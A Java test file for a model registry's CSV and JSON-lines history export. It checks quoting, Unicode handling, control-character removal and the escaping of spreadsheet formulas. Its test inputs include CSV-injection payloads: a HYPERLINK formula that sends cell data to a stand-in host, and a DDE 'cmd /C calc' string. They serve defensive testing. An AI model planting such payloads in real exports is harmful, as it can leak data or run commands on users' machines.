package dev.modelregistry.log;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.modelregistry.entry.Alias;
import dev.modelregistry.entry.ContentDigest;
import dev.modelregistry.entry.ModelName;
import dev.modelregistry.entry.VersionNumber;
import dev.modelregistry.internal.json.Json;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.constraints.StringLength;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** History for spreadsheets and for programs. */
class HistoryExportTest {

    private static final int REASON = 11;
    private static final Instant AT = Instant.parse("2026-03-01T12:00:00Z");

    private static ModelEvent event(String actor, String reason) {
        return new ModelEvent(
                7,
                ContentDigest.of("bytes".getBytes(StandardCharsets.UTF_8)),
                EventType.STAGE_CHANGED,
                AT,
                actor,
                ModelName.of("fraud"),
                Optional.of(VersionNumber.of(2)),
                Optional.of("STAGING"),
                Optional.of(Map.of("to", "PRODUCTION")),
                List.of(new AliasMove(
                        Alias.CHAMPION, Optional.of(VersionNumber.of(1)), Optional.of(VersionNumber.of(2)))),
                List.of(VersionNumber.of(1)),
                Optional.of(reason),
                Optional.empty(),
                List.of("sha256:" + "0".repeat(64), "https://x.example/a,b"),
                List.of(new Waiver("metric:auc>=0.8", "agreed")),
                List.of(),
                List.of());
    }

    private static String written(HistoryExport form, ModelEvent... events) {
        StringBuilder text = new StringBuilder();
        try {
            form.write(Stream.of(events), text);
        } catch (IOException e) {
            throw new AssertionError(e);
        }
        return text.toString();
    }

    /** Reads comma-separated values as RFC 4180 says. */
    private static List<List<String>> read(String csv) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted && c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                cell.append(c);
                i++;
            } else if (c == '"') {
                quoted = !quoted;
            } else if (!quoted && c == ',') {
                row.add(cell.toString());
                cell.setLength(0);
            } else if (!quoted && c == '\r') {
                assertThat(csv.charAt(++i)).isEqualTo('\n');
                row.add(cell.toString());
                cell.setLength(0);
                rows.add(row);
                row = new ArrayList<>();
            } else {
                cell.append(c);
            }
        }
        assertThat(row).as("nothing behind the last line end").isEmpty();
        return rows;
    }

    private static String cell(String text) {
        List<List<String>> rows = read(written(HistoryExport.CSV, event("anna", text)));
        assertThat(rows)
                .hasSize(2)
                .allSatisfy(row -> assertThat(row).hasSize(rows.get(0).size()));
        assertThat(rows.get(0).get(REASON)).isEqualTo("reason");
        return rows.get(1).get(REASON);
    }

    private static List<String> fields(String line) {
        List<String> names = new ArrayList<>();
        Json.read("event", line).fieldNames().forEachRemaining(names::add);
        return names;
    }

    @Test
    void aRowHasEveryFieldAndListsAreJsonInsideTheirCells() {
        List<List<String>> rows = read(written(HistoryExport.CSV, event("anna", "better")));
        assertThat(rows.get(0))
                .as("as the other form has them")
                .isEqualTo(fields(written(HistoryExport.JSON_LINES, event("anna", "better"))));
        assertThat(rows.get(1))
                .startsWith("7")
                .contains(
                        "stage-changed",
                        "2026-03-01T12:00:00Z",
                        "STAGING",
                        "{\"to\":\"PRODUCTION\"}",
                        "[{\"alias\":\"champion\",\"previous\":1,\"version\":2}]",
                        "[1]",
                        "[{\"requirement\":\"metric:auc>=0.8\",\"reason\":\"agreed\"}]")
                .endsWith("", "");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=HYPERLINK(\"https://x.example/\"&A1)",
                "+1",
                "-1",
                "@SUM(A1)",
                " =1+1",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "\ttext",
                "＝1+1",
                "－1",
                "＋1",
                "＠SUM(A1)"
            })
    void aTextThatASpreadsheetWouldCalculateHasAnApostropheBeforeIt(String formula) {
        assertThat(cell(formula)).isEqualTo("'" + formula);
    }

    @Test
    void namesOfPeopleAreTextsLikeOthers() {
        assertThat(read(written(HistoryExport.CSV, event("=cmd|' /C calc'!A0", "x")))
                        .get(1))
                .contains("'=cmd|' /C calc'!A0");
    }

    @Test
    void quotesSeparatorsAndLineEndsStayInsideTheirCell() {
        for (String text : List.of("a,b", "a;b", "say \"no\"", "two\nlines", "two\r\nlines", "\"", ",\"\n\"", "a\tb")) {
            assertThat(cell(text)).isEqualTo(text);
        }
    }

    @Test
    void textOfAnyScriptIsKept() {
        String text = "Größe – 模型 – نموذج – 🐟 – e\u0301";
        assertThat(cell(text)).isEqualTo(text);
        assertThat(Json.read(
                                "line",
                                written(HistoryExport.JSON_LINES, event("anna", text))
                                        .strip())
                        .path("reason")
                        .asText())
                .isEqualTo(text);
    }

    @Test
    void controlCharactersDoNotReachATerminal() {
        assertThat(cell("a\u001b[31mb\u0000\u009bc")).isEqualTo("a?[31mb??c");
        assertThat(written(HistoryExport.JSON_LINES, event("anna", "a\u001bb"))).doesNotContain("\u001b");
    }

    @Test
    void eachLineIsOneEvent() {
        String[] lines = written(HistoryExport.JSON_LINES, event("anna", "two\nlines"), event("bert", "=1"))
                .split("\n", -1);
        assertThat(lines).hasSize(3).endsWith("");
        JsonNode first = Json.read("line", lines[0]);
        assertThat(first.path("reason").asText()).isEqualTo("two\nlines");
        assertThat(first.path("version").asInt()).isEqualTo(2);
        assertThat(first.path("impact").isNull()).isTrue();
        assertThat(first.path("signedBy").isArray()).isTrue();
        assertThat(Json.read("line", lines[1]).path("reason").asText()).isEqualTo("=1");
    }

    @Property
    void whateverIsWrittenARowStaysARow(@ForAll @StringLength(max = 40) String text) {
        String read = cell(text);
        String expected = text.replaceAll("[\\p{Cc}&&[^\r\n\t]]", "?");
        assertThat(read).isIn(expected, "'" + expected);
        assertThat(read.stripLeading()).doesNotMatch("(?s)[=+\\-@].*");
    }

    @Test
    void eventsAreWrittenAsTheyAreRead() {
        StringBuilder written = new StringBuilder();
        List<Integer> lengths = new ArrayList<>();
        Stream<ModelEvent> events = IntStream.range(0, 1000).mapToObj(i -> {
            lengths.add(written.length());
            return event("anna", "number " + i);
        });
        try {
            HistoryExport.CSV.write(events, written);
        } catch (IOException e) {
            throw new AssertionError(e);
        }
        assertThat(lengths)
                .as("each is written before the next is read")
                .doesNotHaveDuplicates()
                .isSorted();
    }

    @Test
    void aFormIsFoundByItsWord() {
        assertThat(HistoryExport.find("csv")).contains(HistoryExport.CSV);
        assertThat(HistoryExport.find("JSON-lines")).contains(HistoryExport.JSON_LINES);
        assertThat(HistoryExport.find("xlsx")).isEmpty();
    }
}
